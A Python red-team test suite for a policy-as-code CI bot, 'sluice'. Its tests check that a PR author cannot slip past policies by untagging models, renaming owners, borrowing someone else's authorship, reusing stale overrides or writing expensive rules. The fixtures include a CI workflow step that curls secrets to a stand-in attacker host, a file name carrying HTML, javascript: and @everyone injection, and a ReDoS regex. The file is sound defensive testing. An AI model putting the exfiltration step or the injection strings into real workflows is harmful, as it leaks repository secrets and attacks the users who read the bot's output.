"""Red team, policies as code in the service (issue 47 point 1).

The attacker has write access (opens PRs, pushes, comments; maybe is a required approver)
and is not named in any policy's ``override_by``. Each test is an attack driven through
the flow on the in-memory forge and SQLite with no Spark (tests/helpers/policy_world.py):
a test marked ``xfail(strict=True)`` is a finding (it asserts what a sound service would
do, and fails today); the others are attacks the service stops.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import textwrap
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from sluice.bot.flow import policies, trust
from sluice.core.policy.cel import compile_rule
from sluice.core.snapshot.naming import PROD
from sluice.core.state import open_state
from sluice.core.workflow import plan_environment
from tests.helpers.policy_world import (
    GATED,
    HARD,
    KEY,
    NOW,
    ROOT,
    SOFT,
    Built,
    World,
    copy_of,
    edit_orders,
    files_of,
)

A = "a" * 40
B = "b" * 40
C = "c" * 40
MAIN2 = "2" * 40
REPO = Path(__file__).resolve().parents[2]
SHIPPED = REPO / "examples" / "policies" / "policies"


def shipped(name: str) -> dict[str, str]:
    """The example policy ``name`` as shipped (examples/policies), on prod."""
    return {f"policies/{name}.yaml": (SHIPPED / f"{name}.yaml").read_text()}


def header(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1))


def held(world: World, sha: str, number: int | None) -> tuple[str, str] | None:
    """What a promotion (or a merge group) of ``sha`` for PR ``number`` is held back by:
    :func:`policies.held_back` on the plan that promotion applies (as
    tests/bot/flow/test_policy_flow.py does: applying it would need Spark)."""
    job = world.job()
    try:
        settings = trust.for_repository(job)
        tree = job.tree(sha)
        project = trust.load_trusted(job, tree, settings)
        own = trust.parse(trust.tree_source(tree, job.deps.config_path))
        store = open_state(job.state_url)
        try:
            plan = plan_environment(project, store, PROD, end=job.now, execution_time=job.now)
            return policies.held_back(
                job, settings, plan, project, own, store,
                prod_python=trust.prod_python_digest(job, tree, settings),
                prod_statements=trust.prod_statements_digest(job, settings),
                number=number, environment=PROD,
            )  # fmt: skip
        finally:
            store.close()
    finally:
        job.close()


def verdicts(review: object) -> dict[str, str]:
    return {name: outcome for name, outcome, _error in review.policies}  # type: ignore[attr-defined]


Worlds = Callable[..., World]


@pytest.fixture(scope="module")
def built() -> Built:
    """Each prod (its policies, its settings, its tree's edit), built once for the module
    when a test first asks for it (tests/helpers/kept_world.py)."""
    return {}


@pytest.fixture
def worlds(built: Built, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Worlds]:
    """``worlds(prod_policies, prepare, settings)``: a copy of its own of the world whose
    prod holds ``prod_policies``, its tree edited by ``prepare`` (tags, forward-only
    models... the shipped policies need) before it is recorded as built and committed."""
    made: list[World] = []

    def make(
        prod_policies: dict[str, str] | None = None,
        prepare: Callable[[Path], None] | None = None,
        settings: str = GATED,
    ) -> World:
        made.append(
            copy_of(built, tmp_path_factory.mktemp, prod_policies, settings, prepare=prepare)
        )
        return made[-1]

    yield make
    for world in made:
        world.close()


@pytest.fixture
def world(worlds: Worlds) -> World:
    return worlds()


# -- facts the pull request declares: tags, owner, destructive, bytes -----------------------

ORDERS = "models/orders.sql"
BREAK_ORDERS_FILTER = "  ON o.order_id = p.order_id"


def tag_orders_finance(prod: Path) -> None:
    header(prod / ORDERS, "  owner finance,", "  owner finance,\n  tags [finance],")


def break_orders(head: Path) -> None:
    """A breaking change of jaffle.orders: its rows change (a filter)."""
    header(
        head / ORDERS, BREAK_ORDERS_FILTER, BREAK_ORDERS_FILTER + "\nWHERE o.status <> 'returned'"
    )


def test_the_shipped_finance_policy_fails_a_breaking_change_of_a_finance_model(
    worlds: Worlds,
) -> None:
    world = worlds(shipped("finance-breaking"), tag_orders_finance)
    try:
        world.head(A, break_orders)
        world.open(7, A, author="eve")
        review = world.build(7)
        assert verdicts(review) == {"finance-breaking": "fail"}
        check = world.check(A)
        assert check is not None and check.conclusion == "failure"
    finally:
        world.close()


def test_dropping_the_finance_tag_in_the_same_pr_does_not_escape_the_finance_policy(
    worlds: Worlds,
) -> None:
    world = worlds(shipped("finance-breaking"), tag_orders_finance)
    try:

        def untag_and_break(head: Path) -> None:
            break_orders(head)
            header(head / ORDERS, "  tags [finance],\n", "")

        world.head(A, untag_and_break)
        world.open(7, A, author="eve")
        review = world.build(7)
        check = world.check(A)
        # What a sound service does: the model prod has is judged by the tags prod has
        # (as the gate takes prod's owners), so the soft policy still blocks.
        assert verdicts(review) == {"finance-breaking": "fail"}
        assert check is not None and check.conclusion == "failure"
        assert held(world, A, 7) is not None
    finally:
        world.close()


FINANCE_OWNED = """\
name: finance-owned-frozen
description: A model finance owns changes only through finance's own release process.
level: hard
rule: '!plan.models.exists(m, m.owner == "finance" && m.direct)'
"""


def test_a_change_to_a_model_finance_owns_fails_the_owner_policy(worlds: Worlds) -> None:
    world = worlds({"policies/owned.yaml": FINANCE_OWNED})
    try:
        world.head(A, break_orders)
        world.open(7, A, author="eve")
        assert verdicts(world.build(7)) == {"finance-owned-frozen": "fail"}
    finally:
        world.close()


def test_renaming_the_owner_in_the_pr_does_not_escape_an_owner_policy(worlds: Worlds) -> None:
    world = worlds({"policies/owned.yaml": FINANCE_OWNED})
    try:

        def disown_and_break(head: Path) -> None:
            break_orders(head)
            header(head / ORDERS, "  owner finance,", "  owner eve,")

        world.head(A, disown_and_break)
        world.open(7, A, author="eve")
        review = world.build(7)
        assert review.direct_owners.get("jaffle.orders") == "finance"  # the gate: prod's
        assert verdicts(review) == {"finance-owned-frozen": "fail"}  # the policy: eve's
        assert held(world, A, 7) is not None
    finally:
        world.close()


STG_CUSTOMERS = "models/stg_customers.sql"
CUSTOMERS = "models/customers.sql"


def tag_customers_pii(prod: Path) -> None:
    """Prod complies with pii-stays-tagged: stg_customers and what reads it are tagged."""
    header(prod / STG_CUSTOMERS, "  grain customer_id,", "  grain customer_id,\n  tags [pii],")
    header(prod / CUSTOMERS, "  owner marketing,", "  owner marketing,\n  tags [pii],")


def add_leak(head: Path) -> None:
    (head / "models" / "leak.sql").write_text(
        "MODEL (name jaffle.leak, kind FULL);\n"
        "SELECT customer_id, first_name, last_name FROM jaffle.stg_customers\n"
    )


def test_the_shipped_pii_policy_fails_a_new_untagged_reader_of_pii(worlds: Worlds) -> None:
    world = worlds(shipped("pii-stays-tagged"), tag_customers_pii)
    try:
        world.head(A, add_leak)
        world.open(7, A, author="eve")
        assert verdicts(world.build(7)) == {"pii-stays-tagged": "fail"}
    finally:
        world.close()


def test_untagging_the_pii_source_in_the_same_pr_does_not_escape_the_pii_policy(
    worlds: Worlds,
) -> None:
    world = worlds(shipped("pii-stays-tagged"), tag_customers_pii)
    try:

        def untag_and_leak(head: Path) -> None:
            add_leak(head)
            header(head / STG_CUSTOMERS, "  tags [pii],\n", "")

        world.head(A, untag_and_leak)
        world.open(7, A, author="eve")
        review = world.build(7)
        assert verdicts(review) == {"pii-stays-tagged": "fail"}
        assert held(world, A, 7) is not None
    finally:
        world.close()


REVENUE = "models/daily_revenue.sql"
NO_DESTRUCTIVE = """\
name: no-destructive
description: No destructive change (a forward-only change dropping or retyping a column).
level: hard
rule: plan.destructive.size() == 0 && plan.models.all(m, !m.destructive)
"""


def forward_only_revenue(prod: Path) -> None:
    header(prod / REVENUE, "    batch_size 31,\n", "    batch_size 31,\n    forward_only true,\n")


def drop_completed_revenue(on_destructive: str) -> Callable[[Path], None]:
    def edit(head: Path) -> None:
        header(
            head / REVENUE,
            "  SUM(amount) AS revenue,\n"
            "  SUM(amount) FILTER (WHERE status = @VAR('revenue_statuses')) AS completed_revenue\n",
            "  SUM(amount) AS revenue\n",
        )
        header(
            head / REVENUE,
            "    forward_only true,\n",
            f"    forward_only true,\n    on_destructive_change {on_destructive},\n",
        )

    return edit


def test_a_destructive_forward_only_change_fails_the_destructive_policy(worlds: Worlds) -> None:
    world = worlds({**shipped("no-destructive-fridays"), "policies/nd.yaml": NO_DESTRUCTIVE},
        forward_only_revenue,
    )  # fmt: skip
    try:
        world.head(A, drop_completed_revenue("warn"))
        world.open(7, A, author="eve")
        review = world.build(7)
        # NOW is a Friday (2027-01-15, UTC).
        assert verdicts(review) == {"no-destructive-fridays": "fail", "no-destructive": "fail"}
    finally:
        world.close()


def test_on_destructive_change_allow_does_not_hide_a_destructive_change_from_policies(
    worlds: Worlds,
) -> None:
    world = worlds({**shipped("no-destructive-fridays"), "policies/nd.yaml": NO_DESTRUCTIVE},
        forward_only_revenue,
    )  # fmt: skip
    try:
        world.head(A, drop_completed_revenue("allow"))
        world.open(7, A, author="eve")
        review = world.build(7)
        assert verdicts(review) == {"no-destructive-fridays": "fail", "no-destructive": "fail"}
        assert held(world, A, 7) is not None
    finally:
        world.close()


def retype_orders_count(on_destructive: str) -> Callable[[Path], None]:
    def edit(head: Path) -> None:
        header(head / REVENUE, "  COUNT(*) AS orders,", "  CAST(COUNT(*) AS STRING) AS orders,")
        header(
            head / REVENUE,
            "    forward_only true,\n",
            f"    forward_only true,\n    on_destructive_change {on_destructive},\n",
        )

    return edit


def test_a_forward_only_retype_fails_the_destructive_policy(worlds: Worlds) -> None:
    world = worlds({"policies/nd.yaml": NO_DESTRUCTIVE}, forward_only_revenue)
    try:
        world.head(A, retype_orders_count("warn"))
        world.open(7, A, author="eve")
        assert verdicts(world.build(7)) == {"no-destructive": "fail"}
    finally:
        world.close()


def test_on_destructive_change_allow_does_not_hide_a_retype_from_policies(
    worlds: Worlds,
) -> None:
    world = worlds({"policies/nd.yaml": NO_DESTRUCTIVE}, forward_only_revenue)
    try:
        world.head(A, retype_orders_count("allow"))
        world.open(7, A, author="eve")
        assert verdicts(world.build(7)) == {"no-destructive": "fail"}
        assert held(world, A, 7) is not None
    finally:
        world.close()


GB = 1000 * 1000 * 1000


def measure(world: World, name: str, size: int) -> None:
    """A job measured prod's table of ``name`` at ``size`` bytes."""
    from sluice.core.state.rows import table_size
    from sluice.core.workflow import read_environment

    store = open_state(world.url)
    try:
        snapshot = read_environment(store, PROD).snapshots[name]
        store.set_table_size(name, snapshot.version, table_size(size, NOW, 10**9))
    finally:
        store.close()


def add_full(source: str) -> Callable[[Path], None]:
    def edit(head: Path) -> None:
        (head / "models" / "wide.sql").write_text(
            f"MODEL (name jaffle.wide, kind FULL);\nSELECT * FROM {source}\n"
        )

    return edit


def test_a_full_model_reading_a_measured_huge_table_fails_no_big_full(worlds: Worlds) -> None:
    world = worlds(shipped("no-big-full"))
    try:
        measure(world, "jaffle.orders", 300 * GB)
        world.head(A, add_full("jaffle.orders"))
        world.open(7, A, author="eve")
        assert verdicts(world.build(7)) == {"no-big-full": "fail"}
        assert held(world, A, 7) is not None
    finally:
        world.close()


def test_a_full_model_reading_an_unmeasured_table_does_not_pass_no_big_full(
    worlds: Worlds,
) -> None:
    world = worlds(shipped("no-big-full"))
    try:
        world.head(A, add_full("lake.clickstream_events"))
        world.open(7, A, author="eve")
        review = world.build(7)
        # A sound service: an unknown size is not a small one (the fact errors, or the
        # shipped rule asks bytes_measured): the policy does not pass.
        assert verdicts(review)["no-big-full"] != "pass"
        assert held(world, A, 7) is not None
    finally:
        world.close()


# -- the author fact -------------------------------------------------------------------------

FINANCE_ONLY = """\
name: orders-by-finance
description: Only finance's own people change jaffle.orders.
level: hard
rule: author == "fin" || !("jaffle.orders" in plan.modified)
"""


def test_the_author_fact_is_the_prs_author_not_what_the_pr_says(worlds: Worlds) -> None:
    world = worlds({"policies/by.yaml": FINANCE_ONLY})
    try:
        world.head(A, edit_orders)
        world.open(7, A, author="eve")
        assert verdicts(world.build(7)) == {"orders-by-finance": "fail"}
        world.head(B, edit_orders)
        world.open(8, B, author="fin")
        assert verdicts(world.build(8)) == {"orders-by-finance": "pass"}
    finally:
        world.close()


def test_pushing_to_someone_elses_pr_does_not_borrow_their_author_fact(worlds: Worlds) -> None:
    world = worlds({"policies/by.yaml": FINANCE_ONLY})
    try:
        world.head(A, lambda head: (head / "NOTES.md").write_text("finance notes\n"))
        world.open(7, A, author="fin")
        assert verdicts(world.build(7)) == {"orders-by-finance": "pass"}
        world.head(B, edit_orders, parent=A)  # eve's commit, pushed to fin's branch
        world.forge.people[B] = ("eve", "eve")
        world.open(7, B)
        review = world.build(7)
        assert verdicts(review) == {"orders-by-finance": "fail"}
        assert held(world, B, 7) is not None
    finally:
        world.close()


# -- overrides: which plan, which policies ---------------------------------------------------


def promote_policies(world: World, files: dict[str, str]) -> None:
    """Prod's policies become ``files`` through an approved promotion (the pin moves; the
    prod branch's head holds them too)."""
    tree = dict(world.forge.files[ROOT])
    tree = {p: t for p, t in tree.items() if not p.startswith("policies/")}
    tree.update(files)
    world.forge.commit(MAIN2, tree, parents=(ROOT,), branch="main")
    job = world.job()
    try:
        old = trust.for_repository(job)
        parsed = trust.parsed_settings(old.sluice, tuple(sorted(files.items())))
        trust.pin(world.ledger, KEY, MAIN2, parsed, "main", NOW + 1)
    finally:
        job.close()


def rebase(world: World, sha: str, base: str, edit: Callable[[Path], None]) -> None:
    """Commit ``base``'s tree edited by ``edit`` as ``sha``, a child of ``base``."""
    folder = world.root / f"rebased-{sha[:7]}"
    for path, data in world.forge.files[base].items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(data if isinstance(data, bytes) else data.encode())
    edit(folder)
    world.forge.commit(sha, files_of(folder), parents=(base,))


STRICTER = SOFT.replace(
    "rule: '!(\"jaffle.orders\" in plan.modified)'",
    "rule: plan.modified.size() == 0 && plan.indirect.size() == 0",
)


def test_an_override_given_under_old_policies_does_not_lift_the_rewritten_rule(
    world: World,
) -> None:
    assert STRICTER != SOFT
    world.head(A, edit_orders)
    world.open(7, A)
    first = world.build(7)
    world.comment(7, "fin", "/sluice override orders-need-finance this column only")
    assert world.check(A).conclusion == "success"  # type: ignore[union-attr]
    promote_policies(
        world, {"policies/soft.yaml": STRICTER, "policies/hard.yaml": world.forge.files[ROOT][
            "policies/hard.yaml"].decode()},  # type: ignore[union-attr]
    )  # fmt: skip
    # The PR brought up to date with prod (its policies are prod's new ones): same models.
    rebase(world, C, MAIN2, edit_orders)
    world.open(7, C)
    second = world.build(7)  # planned again under the policies now in force
    assert second.generation != first.generation
    assert second.fingerprint == first.fingerprint
    assert verdicts(second)["orders-need-finance"] == "fail"
    world.approve_all(7, C, second)  # the approvers approve again under the new settings
    # README: "once new policies are promoted, approvals and overrides given under the old
    # ones no longer count".
    check = world.check(C)
    assert check is not None and check.conclusion == "failure"
    assert held(world, C, 7) is not None


WORKFLOWS = """\
name: workflows-need-finance
description: A change to the CI workflows needs finance's word (they hold its secrets).
level: soft
override_by: [octo/finance]
rule: '!files.exists(f, f.startsWith(".github/"))'
"""


def test_an_override_of_a_files_rule_does_not_cover_files_pushed_after_it(
    worlds: Worlds,
) -> None:
    world = worlds({"policies/wf.yaml": WORKFLOWS})
    try:

        def ci(head: Path) -> None:
            (head / ".github" / "workflows").mkdir(parents=True)
            (head / ".github" / "workflows" / "ci.yml").write_text("on: push\n")

        world.head(A, ci)
        world.open(7, A, author="eve")
        first = world.build(7)
        assert verdicts(first) == {"workflows-need-finance": "fail"}
        [reply] = world.comment(7, "fin", "/sluice override workflows-need-finance lint job only")
        assert reply.startswith("@fin overrode")

        def exfiltrate(head: Path) -> None:
            ci(head)
            (head / ".github" / "workflows" / "deploy.yml").write_text(
                "on: push\njobs: {x: {steps: [{run: 'curl -d @secrets e.vil'}]}}\n"
            )

        world.head(B, exfiltrate, parent=A)
        world.open(7, B)
        second = world.build(7)
        assert second.fingerprint == first.fingerprint  # no model changed
        check = world.check(B)
        assert check is not None and check.conclusion == "failure"
    finally:
        world.close()


# -- the cost of a rule ----------------------------------------------------------------------

DEADLINE = 10.0
"""Seconds a sound service lets one rule run on one plan (a PR build evaluates every
policy in force, a promotion and an override again)."""


def evaluated_within(rule: str, facts_code: str) -> str:
    """``rule`` compiled and evaluated on the facts ``facts_code`` makes, in a child (it
    may run for minutes): ``refused`` (not compiled), its outcome, or ``timeout`` when it
    took over :data:`DEADLINE` seconds."""
    code = textwrap.dedent(f"""
        from sluice.core.errors import ConfigError
        from sluice.core.policy.load import parse_policy
        from sluice.core.policy.verdict import evaluate
        text = "name: cost\\ndescription: d\\nlevel: hard\\nrule: >-\\n  " + {rule!r} + "\\n"
        try:
            policy = parse_policy("policies/cost.yaml", text)
        except ConfigError as exc:
            print("refused" if "nests" in str(exc) or "steps" in str(exc) else exc)
            raise SystemExit(0)
        facts = {facts_code}
        print(evaluate([policy], facts)[0].outcome)
    """)
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    try:
        done = subprocess.run(
            [sys.executable, "-c", code], check=False, cwd=REPO, env=env, capture_output=True, text=True,
            timeout=DEADLINE,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        return "timeout"
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def test_a_rule_within_the_bounds_on_a_small_plan_is_quick() -> None:
    rule = "plan.models.all(a, plan.models.exists(b, b.name == a.name))"
    facts = '{"plan": {"models": [{"name": f"m{i}"} for i in range(10)]}}'
    assert evaluated_within(rule, facts) == "pass"


def test_three_nested_macros_over_literal_lists_are_refused_unrun() -> None:
    items = ",".join(["1"] * 50)
    rule = f"[{items}].all(a, [{items}].all(b, [{items}].all(c, a == b)))"
    assert evaluated_within(rule, '{"plan": {}}') == "refused"


def test_nested_macros_over_list_literals_are_bounded_too() -> None:
    items = ",".join(["1"] * 300)
    rule = f"[{items}].all(a, [{items}].all(b, a == b || true))"
    assert len(rule) < 4_000  # within MAX_CHARS
    assert evaluated_within(rule, '{"plan": {}}') in ("refused", "error")


def test_a_pr_with_many_models_cannot_make_an_accepted_rule_run_for_minutes() -> None:
    rule = "plan.models.all(a, plan.models.exists(b, b.name == a.name))"
    compile_rule(rule, "policies/cost.yaml", 4)  # accepted at load: nesting 2
    facts = (
        '{"plan": {"models": [{"name": f"jaffle.m{i}", "change": "added"} for i in range(500)]}}'
    )
    assert evaluated_within(rule, facts) in ("pass", "error")


def test_a_regex_over_an_attackers_model_name_cannot_backtrack() -> None:
    # cel-python's matches() is RE2 (linear): a catastrophic pattern over a name the PR
    # chooses stays quick.
    rule = "plan.models.all(m, !m.name.matches('^(a+)+$'))"
    facts = '{"plan": {"models": [{"name": "a" * 5000 + "!"}]}}'
    assert evaluated_within(rule, facts) == "pass"


# -- where the policies come from ------------------------------------------------------------

UNGATED = "project: jaffle\npr:\n  backfill_days: 30\n"


def test_a_prs_policies_under_other_names_are_never_read_and_yml_is_a_settings_change(
    world: World,
) -> None:
    def sneak(head: Path) -> None:
        edit_orders(head)
        loose = "name: {n}\ndescription: d\nlevel: advisory\nrule: 'true'\n"
        (head / "policies" / "loose.yml").write_text(loose.format(n="loose"))
        (head / "Policies").mkdir()
        (head / "Policies" / "soft.yaml").write_text(loose.format(n="orders-need-finance"))
        (head / "policies" / "nested").mkdir()
        (head / "policies" / "nested" / "x.yaml").write_text(loose.format(n="nested"))

    world.head(A, sneak)
    world.open(7, A, author="eve")
    review = world.build(7)
    assert verdicts(review) == {"orders-need-finance": "fail", "no-new-models": "pass"}
    assert trust.SETTINGS_ITEM in {name for name, _ in review.items}  # policies/loose.yml


def test_without_a_gate_a_push_deleting_a_hard_policy_does_not_lift_it(worlds: Worlds) -> None:
    world = worlds({"policies/hard.yaml": HARD}, settings=UNGATED)
    try:
        world.head(A, lambda head: (head / "models" / "extra.sql").write_text(
            "MODEL (name jaffle.extra, kind FULL);\nSELECT 1 AS one\n"))  # fmt: skip
        world.open(7, A, author="eve")
        assert verdicts(world.build(7)) == {"no-new-models": "fail"}
        files = dict(world.forge.files[ROOT])
        del files["policies/hard.yaml"]
        world.forge.commit(MAIN2, files, parents=(ROOT,), branch="main")  # eve's push
        review = world.build(7)
        assert verdicts(review) == {"no-new-models": "fail"}
    finally:
        world.close()


def outside_code(markdown: str) -> str:
    """``markdown`` without its fenced blocks and code spans (GitHub renders nothing there)."""
    markdown = re.sub(r"(?ms)^(`{3,})[^\n]*\n.*?^\1\s*$", "", markdown)
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", markdown)


def test_a_policy_file_name_with_markdown_is_shown_inert(worlds: Worlds) -> None:
    name = "policies/x`` <img src=x> @everyone [y](javascript:alert(1)).yaml"
    world = worlds({name: HARD})
    try:
        world.head(A, lambda head: (head / "models" / "extra.sql").write_text(
            "MODEL (name jaffle.extra, kind FULL);\nSELECT 1 AS one\n"))  # fmt: skip
        world.open(7, A, author="eve")
        review = world.build(7)
        assert verdicts(review) == {"no-new-models": "fail"}
        check = world.check(A)
        assert check is not None and check.conclusion == "failure"
        for text in (check.summary, check.text or "", world.forge.bot_comments(7)[0]):
            shown = outside_code(text)
            assert "<img" not in shown and "@everyone" not in shown, text
            assert "](javascript:" not in shown, text
    finally:
        world.close()
